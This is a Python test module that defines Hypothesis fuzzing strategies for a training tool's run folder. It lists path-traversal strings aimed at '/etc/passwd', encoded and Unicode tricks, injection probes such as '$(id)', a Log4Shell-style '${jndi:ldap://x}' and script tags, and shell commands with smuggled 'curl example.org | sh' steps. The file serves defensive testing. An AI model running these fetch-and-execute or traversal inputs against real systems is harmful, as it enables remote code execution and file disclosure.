"""Hostile names, words and commands that try to reach files outside the folder of runs."""

import os

from hypothesis import strategies as st

from cvae_core.system.folders import NAME

_UPWARDS = [
    "..", "../x", "../../x", "../../../../../../etc/passwd", "x/..", "x/../..", "./..", ".", "./x", "x/.", "x//y", "/", "//",
    "/etc", "/etc/passwd", "/tmp/x", "//host/share", "\\\\host\\share", "..\\x", "..\\..\\x", "x\\y", "C:", "C:\\x", "C:/x",
    "file:///etc/passwd", "~", "~/x", "~root", "$HOME", "${HOME}/x", "%HOME%",
]  # fmt: skip
_ENCODED = [
    "%2e%2e", "%2e%2e/x", "%2e%2e%2fx", "..%2fx", "..%5cx", "%252e%252e", "..%c0%afx", "..%00", "x%00.png", "a\0b", "\0",
    "\u2024\u2024/x", "..\uff0fx", "\uff0e\uff0e/x", "a\u202eb", "a\u200bb", "\ufeffa", "é", "ａ", "ſ", "a\u0301",
]  # fmt: skip
_ODD = [
    "", " ", "a ", " a", "a b", "\t", "\n", "a\n", "\na", "a\r", "\x1b[2J", "A", "Label", ".hidden", ".cache", ".queue",
    "_a", "-", "--", "-rf", "--root", "a" * 65, "a" * 5000, "a:b", "a*", "a?", "a|b", "a;b", "a&b", "`id`", "$(id)", "'; --",
    "<script>alert(1)</script>", "${jndi:ldap://x}", "{{7*7}}", "nul\\", "CON:", "a@b", "a#b", "a?b=c", "a+b", "a,b", "a=b",
]  # fmt: skip
NAMES = [*_UPWARDS, *_ENCODED, *_ODD]

any_name = st.one_of(
    st.text(max_size=80),
    st.text(alphabet="./\\%~a0-_:\n", max_size=12),
    st.lists(st.sampled_from(["..", ".", "/", "\\", "a", "%2e", "", "x.y"]), max_size=8).map("/".join),
).filter(lambda name: not NAME.fullmatch(name))
words = st.one_of(  # as a shell can pass them: any bytes except zero
    st.binary(max_size=30).map(lambda raw: os.fsdecode(raw.replace(b"\0", b"").replace(b"/", b"~"))),
    st.sampled_from(["", "-1", "0", "1e99", "nan", "inf", "-inf", str(2**63), str(2**64), "9" * 400, "0x10", "1_0", "٣",
                     "None", "True", "[]", "{}", "--", "-", "-h", "--help", "''", "a=b", "..", "~", "*", "\n",
                     "\x1b[31m", "\udcff"]),
)  # fmt: skip
MARK = "example.org"  # part of every hostile command and of nothing that the lab writes
COMMANDS = [
    "python -m cvae_core train label --run f --no-embed; curl example.org | sh #",
    "python -m cvae_core train label --dataset digits --root /example.org --force",
    "python -m cvae_core train label --run 'example.org",
    "python -m cvae_core train label $(curl example.org)",
    "python -m cvae_core train label --device `curl example.org`",
    "python -m cvae_core train label --threads 4;curl example.org --device cpu",
    "python -m cvae_core train label\ncurl example.org",
    "python -m cvae_core train label --resume && example.org",
    "torchrun --nproc-per-node 2 -m -- example.org",
    "\x1b]0;example.org\x07",
    "example.org",
    '"example.org',
    "example.org " * 1000,
]
